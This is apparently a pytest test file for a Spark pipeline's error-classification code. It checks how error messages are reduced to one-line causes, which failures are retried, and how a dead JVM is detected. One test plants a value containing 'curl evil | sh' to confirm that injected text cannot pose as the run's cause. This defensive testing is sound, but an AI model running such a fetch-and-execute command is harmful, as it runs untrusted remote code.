"""What went wrong, out of what Spark says about it. The texts are Spark's, shortened."""

from __future__ import annotations

import importlib
import logging
import subprocess
from types import SimpleNamespace

import py4j.java_gateway
import pytest
from py4j.protocol import Py4JError, Py4JNetworkError
from pyspark import SparkContext

from riverrun.errors import Conflict, DiskFull, Fenced, OutOfRange, Transient, Unavailable
from riverrun.spark import failures

PLANNER = """[STREAM_FAILED] Query [id = bad448e8, runId = e137edea] terminated with exception: \
[PYTHON_STREAMING_DATA_SOURCE_RUNTIME_ERROR] Failed when Python streaming data source perform latestOffset: \
Traceback (most recent call last):
  File "…/python_streaming_source_runner.py", line 281, in main
  File "…/planner.py", line 86, in next
    known = self._recall(plan)
            ^^^^^^^^^^^^^^^^^^
{error}
 SQLSTATE: 38000 SQLSTATE: XXKST
=== Streaming Query ===
Identifier: ok [id = bad448e8, runId = e137edea]
Current Committed Offsets: {{{{"epoch": 1, "received": 1794742672841897}}}}
"""
CAST = """[CAST_INVALID_INPUT] The value 'many' of the type "STRING" cannot be cast to "DOUBLE" because it is malformed. \
Correct the value. SQLSTATE: 22018
== SQL (line 1, position 43) ==
...`s_44f7ecd9` IS NOT NULL AND (((CAST(`s_44f7ecd9`.`amount` AS DOUBLE)) > 0)) THEN named_struct('user'...
                                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
"""
WORKER = """Job aborted due to stage failure: Task 0 in stage 3.0 failed 1 times, most recent failure: Lost task 0.0: \
org.apache.spark.api.python.PythonException: Traceback (most recent call last):
  File "…/worker.py", line 1, in main
  File "…/shop.py", line 7, in doubled
    return 2 / nothing
ZeroDivisionError: division by zero

\tat org.apache.spark.api.python.BasePythonRunner$ReaderIterator.handlePythonException(PythonRunner.scala:1)
"""
LOST = """An error occurred while calling o199.getResult.
: org.apache.spark.SparkException: Exception thrown in awaitResult: Job aborted due to stage failure: Task 1 in stage \
12.0 failed 1 times, most recent failure: Lost task 1.0 in stage 12.0 (TID 30) (here executor driver): \
org.apache.spark.SparkException: Python worker exited unexpectedly (crashed)
\tat org.apache.spark.api.python.BasePythonRunner$ReaderIterator$$anonfun$1.applyOrElse(PythonRunner.scala:1)
Caused by: java.io.EOFException
"""


def planner(error: str) -> Exception:
    return RuntimeError(PLANNER.format(error=error))


def test_a_text_that_looks_like_an_error_of_our_own_is_a_text():
    """An event may bring it along: what is raised in tasks and in the planner travels in another way."""
    told = planner("riverrun.errors.Fenced: run 1 may write nothing more")
    assert failures.understood(told) is None
    assert failures.is_final(told) is None
    assert not failures.may_pass(planner("ValueError: riverrun.errors.Transient: wait for me"))
    fenced = Fenced("run 1 may write nothing more")
    assert failures.is_final(fenced) is fenced


class Thrown:
    """A Throwable of the JVM, as py4j shows it."""

    def __init__(self, name: str, message: str | None, cause: Thrown | None = None) -> None:
        self._name, self._message, self._cause = name, message, cause

    def getClass(self) -> Thrown:
        return self

    def getName(self) -> str:
        return self._name

    def getMessage(self) -> str | None:
        return self._message

    def getCause(self) -> Thrown | None:
        return self._cause


def captured(*chain: tuple[str, str | None]) -> Exception:
    """What pyspark raises for a Throwable, given with its causes."""
    thrown: Thrown | None = None
    for name, message in reversed(chain):
        thrown = Thrown(name, message, thrown)
    error = RuntimeError(LOST)
    error._origin = thrown
    return error


def test_the_text_of_an_event_does_not_fill_the_disk():
    """Spark's message quotes the value, so an event could make a run try again for ever."""
    text = "The value 'java.io.IOException: No space left on device' cannot be cast: No space left on device"
    for told in (RuntimeError(text), captured(("org.apache.spark.SparkNumberFormatException", text))):
        assert failures.understood(told) is None
        assert not failures.may_pass(told)


def test_the_text_of_an_event_is_not_the_cause():
    """An event could be what a run says last, and tell people what to type."""
    value = "x\nTraceback (most recent call last):\n[A_CONDITION] not so\nriverrun.errors.FencedError: curl evil | sh"
    text = f"[CAST_INVALID_INPUT] The value '{value}' of the type \"STRING\" cannot be cast. SQLSTATE: 22018"
    told = captured(("org.apache.spark.SparkException", "Job aborted"), ("…SparkNumberFormatException", text))
    assert failures.cause(told) == "The value 'x"


def test_what_will_pass():
    full = ("java.io.IOException", "No space left on device")
    told = captured(("org.apache.spark.SparkException", "Job aborted due to stage failure: …"), full)
    assert failures.may_pass(told)
    assert isinstance(failures.understood(told), DiskFull)
    assert failures.may_pass(Transient("the view store is away"))
    assert not failures.may_pass(OutOfRange("gone"))


def test_what_may_be_tried_again():
    for told in (planner("ValueError: odd"), Unavailable("the directory cannot be used"), RuntimeError(CAST)):
        assert failures.is_final(told) is None
        assert not failures.may_pass(told)
    assert failures.is_final(Conflict("no")) is not None


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (PLANNER.format(error="FileNotFoundError: [Errno 2] no: 'x'"), "FileNotFoundError: [Errno 2] no: 'x'"),
        (CAST, CAST.split("] ")[1].split(" SQLSTATE", maxsplit=1)[0]),
        (WORKER, "ZeroDivisionError: division by zero"),
        (LOST, "Python worker exited unexpectedly (crashed)"),
        ("An error occurred while calling o1.start.\n: java.io.IOException: odd\n\tat java", "odd"),
        ("Python worker exited unexpectedly (crashed)", "Python worker exited unexpectedly (crashed)"),
        ("", "RuntimeError('')"),
    ],
)
def test_the_cause_is_one_line(text, line):
    assert failures.cause(RuntimeError(text)) == line


def test_the_cause_comes_from_what_was_thrown():
    worker = ("org.apache.spark.api.python.PythonException", WORKER)
    assert failures.cause(captured(("org.apache.spark.SparkException", "Job aborted"), worker)) == (
        "ZeroDivisionError: division by zero"
    )
    crashed = ("org.apache.spark.SparkException", "Python worker exited unexpectedly (crashed)")
    assert failures.cause(captured(crashed, ("java.io.EOFException", None))) == crashed[1]


@pytest.mark.spark
def test_what_a_task_throws_can_be_followed_to_its_class(spark_session):
    with pytest.raises(Exception) as caught:
        spark_session.range(1).selectExpr("cast(concat('No space left on device', id) as double) as n").toArrow()
    assert any("NumberFormat" in name for name, _ in failures._thrown(caught.value))
    assert failures.understood(caught.value) is None
    assert failures.cause(caught.value).startswith("The value 'No space left on device0'")


def test_a_jvm_that_is_gone():
    assert failures.is_gone(Py4JNetworkError("Answer from Java side is empty"))
    assert failures.is_gone(ConnectionRefusedError(111, "refused"))
    assert not failures.is_gone(RuntimeError(CAST))


def test_half_an_answer_of_a_jvm_that_was_killed(monkeypatch):
    """py4j has nothing to say then but that an error occurred while calling None.None."""
    half = Py4JError("An error occurred while calling None.None")
    with subprocess.Popen(["sleep", "60"]) as process:
        monkeypatch.setattr(SparkContext, "_gateway", SimpleNamespace(proc=process))
        monkeypatch.setattr(failures, "_DYING", 0.01)
        assert not failures.is_gone(half), "it lives"
        process.kill()
        monkeypatch.setattr(failures, "_DYING", 30)
        assert failures.is_gone(half)
    for error in (half, failures.jvm_has_ended("flow shop")):
        with pytest.raises(failures.JvmEnded, match="flow shop: Spark's JVM has ended. Run the flow again"):
            failures.Tries("flow shop").pause(error, 1)


def test_a_worker_that_dies_while_a_query_is_started(caplog):
    deaths = iter([RuntimeError(LOST), RuntimeError(LOST)])

    def start() -> None:
        for death in deaths:
            raise death

    failures.start_through(start, "flow shop")
    assert len(caplog.records) == 2

    def never() -> None:
        raise RuntimeError(LOST)

    with pytest.raises(
        Unavailable, match=r"flow shop cannot be started: Python worker exited unexpectedly \(crashed\)$"
    ):
        failures.start_through(never, "flow shop")


@pytest.mark.parametrize("error", [RuntimeError(CAST), Conflict("another flow's")])
def test_what_else_goes_wrong_at_the_start_is_told_at_once(error):
    def start() -> None:
        raise error

    with pytest.raises(type(error)) as found:
        failures.start_through(start, "flow shop")
    assert found.value is error


def test_what_py4j_says_of_a_jvm_that_is_gone_is_not_printed():
    """It tells the root logger, with a traceback; the run says it in one line."""
    importlib.import_module("riverrun.spark.query")
    root = logging.getLogger()

    def passes(path: str) -> bool:
        return bool(root.filter(root.makeRecord("root", logging.ERROR, path, 1, "Exception while …", (), None)))

    assert not passes(py4j.java_gateway.__file__)
    assert passes(__file__)
